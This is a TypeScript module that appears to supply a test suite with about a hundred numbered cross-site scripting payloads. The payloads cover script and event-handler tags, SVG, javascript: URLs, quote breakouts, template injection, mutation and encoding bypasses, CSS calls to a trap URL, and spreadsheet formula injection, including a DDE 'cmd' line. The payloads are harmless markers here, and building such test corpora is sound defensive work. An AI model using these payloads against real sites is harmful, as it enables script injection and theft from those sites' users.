/**
 * Words that a page would run or draw if it took them for its own markup. Each carries its number (`xq12x`), by which
 * it is found again on a page, and whatever element it would make bears `data-xq` or is called `xq-…`.
 * Rule: quality.md R23.
 */

/** `N` stands for the payload's number, `RUN` for what it would run, `CALL` for an address that only it names. */
const shapes: Readonly<Record<string, readonly string[]>> = {
  tags: [
    '<script data-xq>RUN</script>xqNx',
    '<ScRiPt data-xq>RUN</sCrIpT>xqNx',
    '<script data-xq src=CALL></script>xqNx',
    '<script data-xq src="data:text/javascript,RUN"></script>xqNx',
    '<b data-xq>xqNx</b>',
    '<xq-N>xqNx',
    '<iframe data-xq src="javascript:RUN"></iframe>xqNx',
    '<iframe data-xq srcdoc="<script>parent.__xss=N</script>"></iframe>xqNx',
    '<object data-xq data="javascript:RUN"></object>xqNx',
    '<embed data-xq src="javascript:RUN">xqNx',
    '<base data-xq href="CALL">xqNx',
    '<meta data-xq http-equiv="refresh" content="0;url=CALL">xqNx',
    '<link data-xq rel=stylesheet href=CALL>xqNx',
    '<form data-xq action="javascript:RUN"><input data-xq type=submit>xqNx',
    '<template data-xq><script>RUN</script></template>xqNx',
    '<dialog data-xq open>xqNx</dialog>',
  ],
  'event handlers': [
    '<img data-xq src=x onerror=RUN>xqNx',
    '<img data-xq src=x onerror="RUN">xqNx',
    '<IMG DATA-XQ SRC=x OnErRoR=RUN>xqNx',
    '<img/data-xq/src=x/onerror=RUN>xqNx',
    '<img data-xq src=x onerror=\nRUN>xqNx',
    '<img data-xq src=x\tonerror=RUN>xqNx',
    '<img data-xq src=x onerror=&#119;indow.__xss=N>xqNx',
    '<video data-xq><source data-xq onerror=RUN></video>xqNx',
    '<audio data-xq src=x onerror=RUN>xqNx',
    '<body data-xq onload=RUN>xqNx',
    '<input data-xq autofocus onfocus=RUN>xqNx',
    '<select data-xq autofocus onfocus=RUN>xqNx',
    '<textarea data-xq autofocus onfocus=RUN>xqNx',
    '<details data-xq open ontoggle=RUN>xqNx',
    '<marquee data-xq onstart=RUN>xqNx</marquee>',
    '<div data-xq onpointerover=RUN style="position:fixed;inset:0">xqNx</div>',
    '<div data-xq tabindex=0 onfocus=RUN id=xq>xqNx</div>',
    '<style data-xq onload=RUN></style>xqNx',
    '<p data-xq style="animation:spin 1s" onanimationstart=RUN>xqNx</p>',
    '<button data-xq popovertarget=xq onclick=RUN>xqNx</button>',
  ],
  drawings: [
    '<svg data-xq onload=RUN>xqNx',
    '<svg data-xq><script>RUN</script></svg>xqNx',
    '<svg data-xq><animate onbegin=RUN attributeName=x dur=1s>xqNx',
    '<svg data-xq><set onbegin=RUN attributeName=x>xqNx',
    '<svg data-xq><a xlink:href="javascript:RUN"><text>xqNx</text></a></svg>',
    '<svg data-xq><foreignObject><img data-xq src=x onerror=RUN></foreignObject></svg>xqNx',
    '<svg data-xq><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>xqNx',
    '<svg data-xq><image href=CALL /></svg>xqNx',
    '<svg data-xq><style>*{background:url(CALL)}</style></svg>xqNx',
    '<math data-xq><mtext><img data-xq src=x onerror=RUN></mtext></math>xqNx',
  ],
  addresses: [
    'javascript:RUN//xqNx',
    'JaVaScRiPt:RUN//xqNx',
    ' javascript:RUN//xqNx',
    '\tjava\tscript:RUN//xqNx',
    'java\nscript:RUN//xqNx',
    'javascript&colon;RUN//xqNx',
    '&#106;avascript:RUN//xqNx',
    'data:text/html,<script>RUN</script>xqNx',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==xqNx',
    'vbscript:msgbox(1)xqNx',
    'CALL?xqNx',
    '//CALL_HOST/xqNx',
    '\\\\CALL_HOST\\xqNx',
    '<a data-xq href="javascript:RUN">xqNx</a>',
    '<a data-xq href=" &#14; javascript:RUN">xqNx</a>',
    '<area data-xq href="javascript:RUN">xqNx',
  ],
  quotes: [
    '"><img data-xq src=x onerror=RUN>xqNx',
    "'><img data-xq src=x onerror=RUN>xqNx",
    '`><img data-xq src=x onerror=RUN>xqNx',
    '" onmouseover="RUN" data-xq="xqNx',
    "' onmouseover='RUN' data-xq='xqNx",
    '" autofocus onfocus=RUN data-xq xqNx',
    '\\" onfocus=RUN data-xq xqNx',
    '--><img data-xq src=x onerror=RUN>xqNx',
    ']]><img data-xq src=x onerror=RUN>xqNx',
    '</title><script data-xq>RUN</script>xqNx',
    '</textarea><script data-xq>RUN</script>xqNx',
    '</script><script data-xq>RUN</script>xqNx',
    '</style><script data-xq>RUN</script>xqNx',
    '</option></select><img data-xq src=x onerror=RUN>xqNx',
    "';RUN;//xqNx",
    '";RUN;//xqNx',
    '</span></td></tr></table><img data-xq src=x onerror=RUN>xqNx',
  ],
  templates: [
    "{{constructor.constructor('RUN')()}}xqNx",
    '{{_c.constructor("RUN")()}}xqNx',
    '{{7*7}}xqNx',
    "$\u007bconstructor.constructor('RUN')()}xqNx",
    '#{7*7}xqNx',
    '<%= 7*7 %>xqNx',
    '<div data-xq v-html="RUN">xqNx</div>',
    '<div data-xq :title="RUN" @click="RUN">xqNx</div>',
    '{ xqNx } | @:linked {0} @.upper:x',
  ],
  mutations: [
    '<noscript data-xq><p title="</noscript><img data-xq src=x onerror=RUN>">xqNx',
    '<svg data-xq></p><style><a id="</style><img data-xq src=x onerror=RUN>">xqNx',
    '<math data-xq><mtext><table><mglyph><style><!--</style><img data-xq title="--&gt;&lt;img src=x onerror=RUN&gt;">xqNx',
    '<form data-xq><math><mtext></form><form><mglyph><style></math><img data-xq src=x onerror=RUN>xqNx',
    '<img data-xq src="x` `<script>RUN</script>"` `>xqNx',
    '<xmp data-xq><p title="</xmp><svg/onload=RUN>">xqNx',
    '<<script data-xq>RUN//<</script>xqNx',
    '<img data-xq src=x onerror=RUN xqNx',
    '&lt;img data-xq src=x onerror=RUN&gt;xqNx',
    '&amp;lt;script data-xq&amp;gt;RUN&amp;lt;/script&amp;gt;xqNx',
    '%3Cimg%20data-xq%20src=x%20onerror=RUN%3ExqNx',
    '\\u003cimg data-xq src=x onerror=RUN\\u003exqNx',
    '\\x3cimg data-xq src=x onerror=RUN\\x3exqNx',
  ],
  styles: [
    '<style data-xq>*{background:url(CALL)}</style>xqNx',
    '<style data-xq>@import "CALL";</style>xqNx',
    '<p data-xq style="background:url(CALL)">xqNx</p>',
    'red;background:url(CALL)/*xqNx*/',
    '}*{background:url(CALL)}xqNx',
    'expression(RUN)xqNx',
  ],
  unicode: [
    '＜script＞RUN＜/script＞xqNx',
    '<scr\u0000ipt data-xq>RUN</script>xqNx'.replace('\u0000', '\u200b'),
    '\u202e<img data-xq src=x onerror=RUN>\u202cxqNx',
    '<img\u2028data-xq\u2028src=x\u2028onerror=RUN>xqNx',
    '\ufeff<img data-xq src=x onerror=RUN>xqNx',
    'ʺ＞＜img data-xq src=x onerror=RUN＞xqNx',
    '<ſcript data-xq>RUN</ſcript>xqNx',
    '𬱖<img data-xq src=x onerror=RUN>𰻞xqNx',
  ],
  'marked texts': [
    '[xqNx](javascript:RUN)',
    '![xqNx](CALL)',
    '![xqNx](x"onerror="RUN)',
    '<javascript:RUN>xqNx',
    '```html\n<img data-xq src=x onerror=RUN>\n```xqNx',
    '<b data-xq>xqNx</b>\n# <img data-xq src=x onerror=RUN>',
  ],
  'names and cells': [
    '"><img data-xq src=x onerror=RUN>xqNx.jpg',
    '<svg data-xq onload=RUN>xqNx.pdf',
    'xqNx<br data-xq><img data-xq src=x onerror=RUN>',
    '{b}<img data-xq src=x onerror=RUN>{c}xqNx',
    '=HYPERLINK("javascript:RUN","xqNx")',
    '=cmd|"/c calc"!A1 xqNx',
    'xqNx" /><x:f>RUN</x:f><c data-xq r="A1',
    'xqNx]]></t><img data-xq src=x onerror=RUN>',
  ],
}

export interface Payload {
  readonly kind: string
  readonly text: string
  readonly nth: number
}

/** Every payload; nothing listens at `trapUrl` but the proof. */
export function xssPayloads(trapUrl: string): Payload[] {
  const { host } = new URL(trapUrl)
  return Object.entries(shapes)
    .flatMap(([kind, texts]) => texts.map((shape) => ({ kind, shape })))
    .map(({ kind, shape }, nth) => ({
      kind,
      nth,
      text: shape
        .replaceAll('RUN', `window.__xss=${nth}`)
        .replaceAll('CALL_HOST', host)
        .replaceAll('CALL', `${trapUrl}__xq/${nth}`)
        .replaceAll('xqNx', `xq${nth}x`)
        .replaceAll('xq-N', `xq-${nth}`)
        .replaceAll('=N', `=${nth}`),
    }))
}

/** For fields that hold few characters: the shortest that would still make an element. */
export const shortPayload = (nth: number): string => `<xq-${nth}>`
